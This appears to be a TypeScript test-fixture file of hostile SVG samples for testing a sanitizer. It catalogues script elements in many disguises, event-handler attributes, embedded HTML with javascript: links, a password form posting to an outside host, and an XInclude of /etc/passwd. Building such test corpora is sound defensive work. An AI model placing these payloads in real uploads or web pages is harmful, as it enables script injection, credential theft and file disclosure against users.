import { evil, outside } from './canary.ts'
import { entities, evilDrawing, svg, xhtml } from './drawing.ts'

/** Scripts in every possible place. */
export const scripts = {
  'a script': svg(`<script>${evil}</script>`),
  'a script in CDATA': svg(`<script><![CDATA[${evil}]]></script>`),
  'a script behind prolog, comment and doctype': `<?xml version="1.0" encoding="UTF-8"?><!-- a --><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">${evilDrawing}`,
  'a script behind a byte order mark': `\uFEFF${evilDrawing}`,
  'a script from outside': svg(`<script href="${outside}/a.js"/>`),
  'a script from a data address': svg(
    `<script xlink:href="data:text/javascript,${encodeURIComponent(evil)}"/>`,
  ),
  'a script of the old type': svg(`<script type="application/ecmascript">${evil}</script>`),
  'a script that is a module': svg(`<script type="module">${evil}</script>`),
  'a script under a prefix of SVG': svg(
    `<s:script xmlns:s="http://www.w3.org/2000/svg">${evil}</s:script>`,
  ),
  'a script of XHTML under a prefix': svg(`<x:script ${xhtml}>${evil}</x:script>`),
  'a script of XHTML by default': svg(
    `<script xmlns="http://www.w3.org/1999/xhtml">${evil}</script>`,
  ),
  'a whole document under a prefix': `<s:svg xmlns:s="http://www.w3.org/2000/svg" width="9" height="6" onload="${evil}"><s:script>${evil}</s:script><s:rect width="9" height="6"/></s:svg>`,
  'a script in capitals': svg(`<SCRIPT>${evil}</SCRIPT>`),
  'a script in definitions': svg(`<defs><script>${evil}</script></defs>`),
  'a script in the metadata': svg(`<metadata><script>${evil}</script></metadata>`),
  'a script in the title': svg(`<title><script>${evil}</script></title>`),
  'a script in a description': svg(`<desc><x:script ${xhtml}>${evil}</x:script></desc>`),
  'a script in an unknown element': svg(`<unknown><script>${evil}</script></unknown>`),
  'a script in a pattern': svg(
    `<pattern id="p" width="1" height="1"><script>${evil}</script></pattern>`,
  ),
  'a handler of SVG Tiny': svg(
    `<handler xmlns:ev="http://www.w3.org/2001/xml-events" type="text/ecmascript" ev:event="load">${evil}</handler>`,
  ),
  'a listener of XML events': svg(
    `<ev:listener xmlns:ev="http://www.w3.org/2001/xml-events" event="load" handler="#r"/>`,
  ),
}

/** Attributes that run scripts. */
export const handlers = {
  'a handler of load': svg('', `onload="${evil}"`),
  'a handler of load that is spelt in entities': svg('', `onload="${entities(evil)}"`),
  'a handler of load without a namespace': `<svg width="9" height="6" onload="${evil}"><rect width="9" height="6"/></svg>`,
  'handlers of the mouse': svg(`<circle r="9" onclick="${evil}" onmouseover="${evil}"/>`),
  'a handler of focus': svg(`<g tabindex="0" autofocus="" onfocus="${evil}" onfocusin="${evil}"/>`),
  'handlers of animations': svg(
    `<animate attributeName="x" dur="1s" onbegin="${evil}" onend="${evil}" onrepeat="${evil}"/>`,
  ),
  'a handler of a failed picture': svg(
    `<image href="x:x" width="9" height="6" onerror="${evil}"/>`,
  ),
  'a handler of a style': svg(`<style onload="${evil}">rect{fill:red}</style>`),
  'a handler in capitals': svg('', `ONLOAD="${evil}"`),
  'a handler under a prefix': svg('', `xmlns:s="http://www.w3.org/2000/svg" s:onload="${evil}"`),
  'a handler of errors and of resizing': svg(
    '',
    `onerror="${evil}" onresize="${evil}" onunload="${evil}"`,
  ),
}

/** Elements that do not belong in a drawing. */
export const foreign = {
  'html with a script': svg(
    `<foreignObject width="90" height="60"><x:body ${xhtml}><x:script>${evil}</x:script></x:body></foreignObject>`,
  ),
  'html with a picture that fails': svg(
    `<foreignObject width="90" height="60"><img xmlns="http://www.w3.org/1999/xhtml" src="x:x" onerror="${evil}"/></foreignObject>`,
  ),
  'html with a frame': svg(
    `<foreignObject width="90" height="60"><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:parent.document.title='evil'"/></foreignObject>`,
  ),
  'html with a form': svg(
    `<foreignObject width="90" height="60"><form xmlns="http://www.w3.org/1999/xhtml" action="${outside}"><input name="password"/></form></foreignObject>`,
  ),
  'html with another refresh': svg(
    `<x:meta ${xhtml} http-equiv="refresh" content="0;url=${outside}/"/>`,
  ),
  'html with another base': svg(
    `<x:base ${xhtml} href="${outside}/"/><image href="a.png" width="9" height="6"/>`,
  ),
  'a style sheet of html': svg(`<x:link ${xhtml} rel="stylesheet" href="${outside}/a.css"/>`),
  'a frame, an object and a video': svg(
    `<x:iframe ${xhtml} src="${outside}/"/><x:object ${xhtml} data="${outside}/"/><x:video ${xhtml} src="${outside}/" autoplay=""/>`,
  ),
  'frames of SVG 2': svg(
    `<iframe href="${outside}/"/><video href="${outside}/a"/><audio href="${outside}/a"/><canvas/>`,
  ),
  'foreign content under a prefix': `<s:svg xmlns:s="http://www.w3.org/2000/svg" viewBox="0 0 9 6"><s:foreignObject width="9" height="6"><x:img ${xhtml} src="${outside}/a.png"/></s:foreignObject></s:svg>`,
  'another document by XInclude': svg(
    `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>`,
  ),
  'MathML with a link': svg(
    `<m:math xmlns:m="http://www.w3.org/1998/Math/MathML" href="javascript:${evil}"/>`,
  ),
}
